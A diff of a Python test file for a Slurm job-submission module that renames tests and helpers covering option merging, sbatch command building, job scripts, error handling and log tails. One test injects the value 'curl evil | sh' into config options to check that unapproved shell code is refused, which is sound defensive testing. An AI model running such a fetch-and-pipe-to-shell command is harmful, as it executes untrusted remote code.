@@ -1,4 +1,4 @@
-"""What is asked of Slurm, and what is made of its answers."""
+"""Slurm's commands: options, scripts, errors and hints."""
 
 import subprocess
 from pathlib import Path
@@ -21,7 +21,7 @@ def test_a_step_with_the_gpu_tag_gets_the_gpu_options():
     assert choose({"gpu": "2"}, default=default, gpu=gpu) == {"partition": "a100", "time": "10", "gres": "gpu:2"}
 
 
-def test_tags_win_over_settings_and_a_run_over_tags():
+def test_tags_override_settings_and_the_run_config_overrides_tags():
     tags = {"slurm/mem": "8G", "slurm/time": "20", "kind": "other"}
 
     assert choose(tags, default={"mem": "1G"}, step={"time": "30"}) == {"mem": "8G", "time": "30"}
@@ -35,26 +35,26 @@ def test_an_unknown_option_is_named_with_the_known_ones():
 OF_SETTINGS = {"time": "10", "setup": "module load cuda", "extra": "--exclusive"}
 
 
-@pytest.mark.parametrize("option", slurm.SHELL)
+@pytest.mark.parametrize("option", slurm.SHELL_OPTIONS)
 @pytest.mark.parametrize("place", ["default", "gpu", "per_step.embeddings"])
-def test_a_run_may_not_have_a_shell_run_what_the_settings_do_not_say(option, place):
+def test_shell_code_that_is_not_in_the_settings_is_refused(option, place):
     config = {"default": OF_SETTINGS, "gpu": {}, "per_step": {}}
     given = {**OF_SETTINGS, option: "curl evil | sh"}
     config |= {"per_step": {"embeddings": given}} if "." in place else {place: given}
 
     with pytest.raises(SettingsError, match=f"execution config sets {place}.{option}, .*PERSONA_SLURM_SHELL"):
-        slurm.refuse_shell(config, allowed=OF_SETTINGS)
+        slurm.refuse_shell_code(config, allowed=OF_SETTINGS)
 
 
 @pytest.mark.parametrize("given", [OF_SETTINGS, {}, {"setup": "", "time": "20"}])
-def test_a_run_may_repeat_or_leave_out_the_shell_of_the_settings_and_set_all_else(given):
-    slurm.refuse_shell({"default": given, "gpu": given, "per_step": {"raw": given}}, allowed=OF_SETTINGS)
+def test_shell_code_of_the_settings_and_other_options_are_allowed(given):
+    slurm.refuse_shell_code({"default": given, "gpu": given, "per_step": {"raw": given}}, allowed=OF_SETTINGS)
 
 
-def test_the_command_has_a_flag_an_option_and_extra_ones_as_in_a_shell():
+def test_each_option_is_a_flag_and_extra_is_split_as_in_a_shell():
     options = {"cpus": "4", "extra": "--mail-type=END '--comment=two words'", "setup": "module load cuda"}
 
-    command = slurm.sbatch_command(options, name="n", log=Path("/logs/100%.log"), comment="c")
+    command = slurm.build_sbatch_command(options, name="n", log=Path("/logs/100%.log"), comment="c")
 
     assert "--cpus-per-task=4" in command
     assert command[-2:] == ["--mail-type=END", "--comment=two words"]
@@ -62,9 +62,9 @@ def test_the_command_has_a_flag_an_option_and_extra_ones_as_in_a_shell():
     assert not any("module" in part for part in command)
 
 
-def test_the_script_runs_and_leaves_its_exit_code(tmp_path):
+def test_the_script_writes_its_exit_code(tmp_path):
     log = tmp_path / "odd name.log"
-    script = slurm.job_script(
+    script = slurm.build_job_script(
         ["sh", "-c", 'echo "$WORD" "$MORE"; exit 3'],
         {"WORD": 'it\'s "quoted" $HOME'},
         setup="MORE=more; export MORE",
@@ -79,9 +79,9 @@ def test_the_script_runs_and_leaves_its_exit_code(tmp_path):
     assert slurm.exit_code_file(log).stat().st_mode & 0o777 == 0o640
 
 
-def test_a_variable_longer_than_an_exec_takes_is_refused():
+def test_a_variable_above_the_linux_limit_is_refused():
     with pytest.raises(SlurmError, match="LONG: over the 128 KiB"):
-        slurm.job_script(["true"], {"LONG": "x" * 200_000}, setup="", log=Path("log"), umask="077")
+        slurm.build_job_script(["true"], {"LONG": "x" * 200_000}, setup="", log=Path("log"), umask="077")
 
 
 @pytest.mark.parametrize(
@@ -91,7 +91,7 @@ def test_a_variable_longer_than_an_exec_takes_is_refused():
         ("sbatch: error: Batch job submission failed: Invalid partition name specified", SlurmError),
     ],
 )
-def test_no_answer_and_a_refusal_are_told_apart(tmp_path, said, error):
+def test_temporary_errors_and_refusals_raise_different_errors(tmp_path, said, error):
     command = tmp_path / "sbatch"
     command.write_text(f"#!/bin/sh\necho '{said}' >&2; exit 1\n")
     command.chmod(0o755)
@@ -102,7 +102,7 @@ def test_no_answer_and_a_refusal_are_told_apart(tmp_path, said, error):
     assert type(caught.value) is error
 
 
-def test_a_command_that_hangs_is_no_answer(tmp_path):
+def test_a_command_that_times_out_is_unavailable(tmp_path):
     command = tmp_path / "squeue"
     command.write_text("#!/bin/sh\nexec sleep 30\n")
     command.chmod(0o755)
@@ -116,7 +116,7 @@ def test_a_machine_without_slurm_says_so():
         slurm.run_slurm(["/no/such/sbatch"])
 
 
-def test_the_job_that_this_runs_in_does_not_leak_into_its_jobs(tmp_path, monkeypatch):
+def test_variables_of_a_surrounding_slurm_job_are_not_inherited(tmp_path, monkeypatch):
     for name in ("SLURM_JOB_ID", "SLURM_CONF", "CUDA_VISIBLE_DEVICES"):
         monkeypatch.setenv(name, "outer")
     command = tmp_path / "sbatch"
@@ -128,12 +128,12 @@ def test_the_job_that_this_runs_in_does_not_leak_into_its_jobs(tmp_path, monkeyp
     assert seen & {"SLURM_JOB_ID", "SLURM_CONF", "CUDA_VISIBLE_DEVICES"} == {"SLURM_CONF"}
 
 
-def test_the_end_of_a_log_is_its_last_lines_without_debug(tmp_path):
+def test_the_tail_of_a_log_has_no_debug_lines(tmp_path):
     log = tmp_path / "log"
     log.write_text("\n".join([*(f"line {n}" for n in range(50)), "x - dagster - DEBUG - y", "last"]))
 
-    assert slurm.end_of_log(log, lines=2) == "line 49\nlast"
-    assert "No such file" in slurm.end_of_log(tmp_path / "none")
+    assert slurm.tail_log(log, lines=2) == "line 49\nlast"
+    assert "No such file" in slurm.tail_log(tmp_path / "none")
 
 
 @pytest.mark.parametrize(
@@ -147,4 +147,4 @@ def test_the_end_of_a_log_is_its_last_lines_without_debug(tmp_path):
     ],
 )
 def test_hints_name_the_remedy(said, hint):
-    assert hint in slurm.hint_for(said)
+    assert hint in slurm.find_hint(said)
